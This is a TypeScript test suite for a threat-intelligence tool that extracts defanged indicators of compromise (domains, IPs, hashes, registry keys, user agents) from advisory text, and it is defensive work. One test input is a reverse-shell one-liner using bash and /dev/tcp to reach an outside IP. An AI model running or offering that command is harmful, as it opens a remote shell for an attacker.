import { findIndicators, type Indicator, read } from '@tripline/advisory';
import fc from 'fast-check';

async function indicatorsOf(text: string, url = 'https://blog.quarry-labs.com/a'): Promise<readonly Indicator[]> {
  return findIndicators(await read(Buffer.from(text), { contentType: 'text/plain', url }));
}

/** Gives every indicator as `type value`. */
async function found(text: string, url?: string): Promise<string[]> {
  return (await indicatorsOf(text, url)).map((indicator) => `${indicator.type} ${indicator.value}`);
}

const SHA256 = '0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0';

describe('what is found', () => {
  test.each([
    ['finch[.]top', ['domain finch.top']],
    ["LIKE '%finch[.]top%'", ['domain finch.top']],
    ['finch(.)top and finch{.}top', ['domain finch.top']],
    ['cdn.finch[dot]top', ['domain cdn.finch.top']],
    ['cdn.finch (dot) top', ['domain cdn.finch.top']],
    ['update[.]zip', ['domain update.zip']],
    ['45[.]9[.]148[.]3', ['ipv4 45.9.148.3']],
    ['45.9.148[.]3:8443', ['ipv4 45.9.148.3']],
    ['5.188.[.]87.4', ['ipv4 5.188.87.4']],
    ['45.9.148.0/24', ['cidr 45.9.148.0/24']],
    ['45.9.148[.]3/up/a.sh', ['ipv4 45.9.148.3', 'url 45.9.148.3/up/a.sh']],
    ['45.9.148[.]3:8080/gate', ['ipv4 45.9.148.3', 'url 45.9.148.3:8080/gate']],
    ['45.9.148[.]3/finch[.]co', ['ipv4 45.9.148.3']],
    ['45.9.148[.]3:443/TCP', ['ipv4 45.9.148.3']],
    ['45.9.148[.]3/45.9.148[.]4', ['ipv4 45.9.148.3', 'ipv4 45.9.148.4']],
    ['45.9.148[.]3/li>', ['ipv4 45.9.148.3']],
    ['bash -i >& /dev/tcp/45.9.148.3/25 0>&1', ['ipv4 45.9.148.3']],
    ['2a0e:b107:1a0::5', ['ipv6 2a0e:b107:1a0::5']],
    ['hxxps://finch[.]top/a.exe.', ['url https://finch.top/a.exe', 'domain finch.top']],
    ['hxxps[:]//cdn.finch[.]top:8443/x?y=1', ['url https://cdn.finch.top:8443/x?y=1', 'domain cdn.finch.top']],
    ['h**p://45[.]9[.]148[.]3/payload', ['url http://45.9.148.3/payload', 'ipv4 45.9.148.3']],
    ['[http]://finch[.]top', ['url http://finch.top', 'domain finch.top']],
    ['finch[.]top/gate.php', ['domain finch.top', 'url finch.top/gate.php']],
    ['boss[@]finch[.]top', ['email boss@finch.top']],
    ['boss [at] finch [dot] top', ['email boss@finch.top']],
    ['pay.finch@tutanota.com', ['email pay.finch@tutanota.com']],
    ['0f1e2d3c4b5a69788796a5b4c3d2e1f0', ['md5 0f1e2d3c4b5a69788796a5b4c3d2e1f0']],
    ['Imphash: 0F1E2D3C4B5A69788796A5B4C3D2E1F0', ['imphash 0f1e2d3c4b5a69788796a5b4c3d2e1f0']],
    ['The JA3 hash of its client is 0f1e2d3c4b5a69788796a5b4c3d2e1f0.', ['ja3 0f1e2d3c4b5a69788796a5b4c3d2e1f0']],
    [
      'JA3 fingerprints:\n\n0f1e2d3c4b5a69788796a5b4c3d2e1f0\n1f1e2d3c4b5a69788796a5b4c3d2e1f1',
      ['ja3 0f1e2d3c4b5a69788796a5b4c3d2e1f0', 'ja3 1f1e2d3c4b5a69788796a5b4c3d2e1f1'],
    ],
    ['JA3 is no hash of files. MD5 0f1e2d3c4b5a69788796a5b4c3d2e1f0', ['md5 0f1e2d3c4b5a69788796a5b4c3d2e1f0']],
    ['Class constructor\n0f1e2d3c4b5a69788796a5b4c3d2e1f0', ['md5 0f1e2d3c4b5a69788796a5b4c3d2e1f0']],
    [
      'JA3:\n1f1e2d3c4b5a69788796a5b4c3d2e1f1\n\nThe loader has the hash 0f1e2d3c4b5a69788796a5b4c3d2e1f0.',
      ['ja3 1f1e2d3c4b5a69788796a5b4c3d2e1f1', 'md5 0f1e2d3c4b5a69788796a5b4c3d2e1f0'],
    ],
    [
      'Its JA3 is 1f1e2d3c4b5a69788796a5b4c3d2e1f1 and the file is 0f1e2d3c4b5a69788796a5b4c3d2e1f0.',
      ['ja3 1f1e2d3c4b5a69788796a5b4c3d2e1f1', 'md5 0f1e2d3c4b5a69788796a5b4c3d2e1f0'],
    ],
    ['No JA3 is known, the sample 0f1e2d3c4b5a69788796a5b4c3d2e1f0 is old.', ['md5 0f1e2d3c4b5a69788796a5b4c3d2e1f0']],
    ['MD5 Imphash\n0f1e2d3c4b5a69788796a5b4c3d2e1f0', ['md5 0f1e2d3c4b5a69788796a5b4c3d2e1f0']],
    ['JA3 hash 0f1e2d3c4b5a69788796a5b4c3d2e1f0', ['ja3 0f1e2d3c4b5a69788796a5b4c3d2e1f0']],
    ['0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c', ['sha1 0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c']],
    [SHA256, [`sha256 ${SHA256}`]],
    [SHA256 + SHA256, [`sha512 ${SHA256}${SHA256}`]],
    ['tracked as cve-2025-4242', ['cve CVE-2025-4242']],
    ['hosted in AS64496', ['asn AS64496']],
    ['with key AKIAQ3EGRZ7XYTPK4WLM', ['access-key-id AKIAQ3EGRZ7XYTPK4WLM']],
    ['arn:aws:iam::908213347765:role/finch', ['arn arn:aws:iam::908213347765:role/finch']],
    ['paid to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', ['bitcoin-address 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa']],
    [
      'paid to bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4',
      ['bitcoin-address bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'],
    ],
    ['saved as C:\\Program Files\\Finch\\svchelp.exe today', ['file-path C:\\Program Files\\Finch\\svchelp.exe']],
    ['saved as %APPDATA%\\finch\\a.dll', ['file-path %APPDATA%\\finch\\a.dll']],
    ['dropped /tmp/.finch/run and left', ['file-path /tmp/.finch/run']],
    ['the file finch_loader.dll was', ['file-name finch_loader.dll']],
    [
      'under HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon it',
      ['registry-key HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon'],
    ],
    ['HKLM:\\Software\\Finch\\Run', ['registry-key HKLM\\Software\\Finch\\Run']],
    ['a mutex named "FinchOnce-77"', ['mutex FinchOnce-77']],
    ['creates Global\\FinchOnce first', ['mutex Global\\FinchOnce']],
    ['the pipe \\\\.\\pipe\\finch_12 was', ['pipe \\\\.\\pipe\\finch_12']],
    [
      'came as Boto3/1.26.9 Python/3.11.1 Windows/10 Botocore/1.29.9.',
      ['user-agent Boto3/1.26.9 Python/3.11.1 Windows/10 Botocore/1.29.9'],
    ],
    [
      'came as aws-cli/2.9.1 Python/3.9 Linux/5.15.90.1-microsoft exe/x86_64 prompt/off',
      ['user-agent aws-cli/2.9.1 Python/3.9 Linux/5.15.90.1-microsoft exe/x86_64 prompt/off'],
    ],
    [
      'python-requests/2.1.0 auth-aws-sigv4/0.7 python-requests/2.3.2 auth-aws-sigv4/0.7',
      ['user-agent python-requests/2.1.0 auth-aws-sigv4/0.7', 'user-agent python-requests/2.3.2 auth-aws-sigv4/0.7'],
    ],
    ['User-Agent: Finch/1.0 (like nothing)', ['user-agent Finch/1.0 (like nothing)']],
    [
      'Mozilla/5.0 (X11; rv:9) Gecko/20100101 Firefox/9.0',
      ['user-agent Mozilla/5.0 (X11; rv:9) Gecko/20100101 Firefox/9.0'],
    ],
  ] as const)('finds in "%s"', async (text, expected) => {
    expect(await found(`It was ${text}`)).toEqual(expected);
  });

  test('joins the places of one value, and keeps how it was first written and the words around it', async () => {
    const text = 'First it called hxxp://finch[.]top/a and later finch[.]top again, then finch(.)top.';
    const domain = (await indicatorsOf(text)).find((indicator) => indicator.type === 'domain');
    expect(domain).toMatchObject({ value: 'finch.top', original: 'finch[.]top', context: text });
    expect(domain?.spans.map(({ start, end }) => text.slice(start, end))).toEqual([
      'finch[.]top',
      'finch[.]top',
      'finch(.)top',
    ]);
  });

  test('never cuts a subdomain', async () => {
    expect(await found('It was a.b.c.finch[.]co[.]uk')).toEqual(['domain a.b.c.finch.co.uk']);
  });
});

describe('what only looks like an indicator', () => {
  test.each([
    ['a version', 'Upgrade to version 10.4.2.1 or Chrome/91.0.4472.12 or v7.2.3.4 now'],
    [
      'private, loopback, documentation and multicast addresses',
      'From 10.1.2.3, 192.168.7.7, 127.0.0.1, 203.0.113.9, 224.0.0.251 and fe80::1, 2001:db8::7',
    ],
    ['public resolvers', 'It pinged 8.8.8.8 first'],
    ['an address out of range', 'Build 1.2.3.400 and 999.1.1.1'],
    ['members of classes', 'It used System.Net.WebClient, Microsoft.Win32 and os.name and requestParameters.name'],
    ['event sources of a cloud', 'Calls to iam.amazonaws.com and storage.googleapis.com rose'],
    ['resource providers', 'It wrote Microsoft.Storage/storageAccounts/write'],
    ['hosts everybody uses', 'It was uploaded from github.com and read on www.virustotal.com'],
    ['reserved names', 'Ask at portal.example.com or files.corp.internal or host.test'],
    ['the publisher', 'More at quarry-labs.com and www.quarry-labs.com or press@quarry-labs.com'],
    ['authorities', 'Write to report@cisa.gov or see fbi.gov'],
    ['digests of nothing', 'Size zero: d41d8cd98f00b204e9800998ecf8427e'],
    ['digits and patterns', '12345678901234567890123456789012 and aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'],
    [
      'files every machine has',
      'It ran cmd.exe and C:\\Windows\\System32\\rundll32.exe with kernel32.dll and /etc/passwd',
    ],
    ['products with a dot', 'Written for Node.js and ASP.NET'],
    ['the documentation key', 'For example AKIAIOSFODNN7EXAMPLE'],
    ['a policy of the cloud itself', 'It attached arn:aws:iam::aws:policy/AdministratorAccess'],
    ['an address with a wrong checksum', 'paid to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb'],
    ['a year after a word', 'just as 2014 began'],
    ['a time', 'At 10:22:31:07 it ended'],
  ])('leaves out %s', async (_name, text) => {
    expect(await found(text)).toEqual([]);
  });

  test('takes a plain file name as a file where a defanged one is a host', async () => {
    expect(await found('It was update.zip and cmd2.py and run.sh')).toEqual([
      'file-name update.zip',
      'file-name cmd2.py',
      'file-name run.sh',
    ]);
  });

  test('takes bare hosts as indicators only where the author defangs none', async () => {
    expect(await found('It called finch.top for orders')).toEqual(['domain finch.top']);
    expect(await found('It called finch[.]top, see heron.top')).toEqual(['domain finch.top']);
  });

  test('takes a bare host with a port that something connects to, also where the author defangs others', async () => {
    expect(await found('It loads finch[.]top. The miner connects to pool.heronpay.pro:8443 later.')).toContain(
      'domain pool.heronpay.pro',
    );
    expect(await found('It loads finch[.]top. See the tracker at pool.heronpay.pro for more.')).not.toContain(
      'domain pool.heronpay.pro',
    );
  });

  test('takes bare hosts as indicators where the author defangs schemes alone, which such hosts have none of', async () => {
    expect(await found('It got hxxp://finch.top/a and called heron.top for orders')).toEqual([
      'url http://finch.top/a',
      'domain finch.top',
      'domain heron.top',
    ]);
    expect(await found('It got hxxp://finch.top/a, see https://heron.top/news')).toEqual([
      'url http://finch.top/a',
      'domain finch.top',
    ]);
  });

  test.each([
    'They set up finch-login[.]top, a lookalike of the bank’s finchbank[.]com.',
    'They set up finch-login[.]top, a typosquat of finchbank[.]com.',
    'The page at finch-login[.]top looks like finchbank[.]com and asks for passwords.',
    'The page at finch-login[.]top impersonates the official site “finchbank[.]com”.',
    'Users looked for the genuine portal (finchbank[.]com) and came to finch-login[.]top.',
    'finch-login[.]top. Its loader is built on a tool that is freely available at hxxps://finchbank[.]com/tools/9.',
  ])('leaves out a defanged host that the text calls somebody else’s: "%s"', async (text) => {
    expect(await found(text)).toEqual(['domain finch-login.top']);
  });

  test.each([
    'The loader came from the compromised official site finchbank[.]com.',
    'The loader was hosted on the legitimate site finchbank[.]com.',
    'The genuine installer calls finchbank[.]com.',
    'The page that impersonates Heron Bank (finchbank[.]com) took the passwords.',
    'The malware imitating a printer update contacts finchbank[.]com.',
  ])('keeps a host that is the intruder’s own or means: "%s"', async (text) => {
    expect(await found(text)).toEqual(['domain finchbank.com']);
  });

  test('leaves out every address of a host that the text once calls somebody else’s', async () => {
    const text = 'The source is publicly available at hxxp://crane[.]io/a-1 and was taken from hxxp://crane[.]io/a-2.';
    expect(await found(text)).toEqual([]);
  });

  test('leaves out a plain host that readers are sent to, or that stands in advice', async () => {
    expect(await found('For more on the alliance, visit finch-alliance.org.')).toEqual([]);
    expect(await found('Customers should visit finch-alliance.org for help.')).toEqual([]);
    expect(await found('Look for connections to providers like Heron Limited (heron2.net).')).toEqual([]);
  });

  test.each(['Domain Names', 'Malicious domains:', 'C2 IP addresses', 'Phishing hostnames'])(
    'takes bare hosts under the heading "%s" for indicators',
    async (heading) => {
      const page = `<h1>T</h1><p>It called finch[.]top</p><h2>${heading}</h2><p>heron.top crane.io</p>`;
      const document = await read(Buffer.from(page), { contentType: 'text/html' });
      expect(findIndicators(document).map(({ value }) => value)).toEqual(['finch.top', 'heron.top', 'crane.io']);
    },
  );

  test('takes bare hosts under a heading of indicators all the same', async () => {
    const page = '<h1>T</h1><p>It called finch[.]top</p><h2>Indicators of compromise</h2><ul><li>heron.top</li></ul>';
    const document = await read(Buffer.from(page), { contentType: 'text/html' });
    expect(findIndicators(document).map((indicator) => indicator.value)).toEqual(['finch.top', 'heron.top']);
  });

  test('leaves out the hosts of links and references', async () => {
    const page =
      '<h1>T</h1><p>As <a href="https://research.heron.io/x">Heron</a> wrote on research.heron.io</p><h2>References</h2><p>https://crane.io/notes</p>';
    const document = await read(Buffer.from(page), { contentType: 'text/html' });
    expect(findIndicators(document)).toEqual([]);
  });

  test('keeps the address of a file on a shared service and leaves the service out', async () => {
    expect(await found('It fetched hxxps://pastebin[.]com/raw/x7')).toEqual(['url https://pastebin.com/raw/x7']);
    expect(await found('It called finch7.duckdns[.]org and duckdns[.]org')).toEqual(['domain finch7.duckdns.org']);
  });
});

describe('any text', () => {
  test('gives places within the text whose words are what was recorded', async () => {
    const pieces = fc.constantFrom(
      '[.]',
      '(dot)',
      'hxxp://',
      'finch',
      '.top',
      ' ',
      '45',
      '.',
      '[:]',
      '//',
      '\\',
      'C:\\',
      '/tmp/a',
      SHA256,
      '@',
      '[at]',
      'é',
      '\u{1f426}',
      '\n',
      ']',
      '[',
      'HKLM\\a\\b',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(pieces, { minLength: 1, maxLength: 40 }), async (parts) => {
        const document = await read(Buffer.from(`x${parts.join('')}`), {});
        for (const indicator of findIndicators(document)) {
          for (const { start, end } of indicator.spans) {
            expect(start).toBeGreaterThanOrEqual(0);
            expect(end).toBeGreaterThan(start);
            expect(end).toBeLessThanOrEqual(document.text.length);
          }
          const [first] = indicator.spans;
          expect(document.text.slice(first?.start, first?.end)).toBe(indicator.original);
          expect(indicator.context.length).toBeLessThanOrEqual(Math.max(160, indicator.original.length));
        }
      }),
      { numRuns: 500 },
    );
  });

  test.each([
    'a',
    'a.',
    '[.]',
    'a[.]',
    'a@a.',
    '1.',
    'a:',
    '\\',
    '/',
    'C:\\a b ',
    'HKLM\\',
    'http://',
    'mutex with the value of ',
    'Mozilla/5.0 (',
    '/tmp/a',
    'a-',
  ])('searches two hundred thousand characters of "%s" in one go', async (piece) => {
    const document = await read(Buffer.from(`start ${piece.repeat(200_000 / piece.length)}`), {});
    expect(Array.isArray(findIndicators(document))).toBe(true);
  });
});
